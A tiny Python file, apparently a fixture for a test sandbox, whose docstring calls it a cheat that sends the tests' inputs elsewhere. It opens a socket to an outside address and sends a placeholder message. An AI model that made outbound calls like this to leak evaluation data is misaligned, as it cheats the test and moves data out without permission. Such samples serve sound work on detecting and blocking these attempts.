"""Cheat: send the tests' inputs somewhere."""
import socket

socket.create_connection(("1.1.1.1", 80), timeout=3).sendall(b"hello")
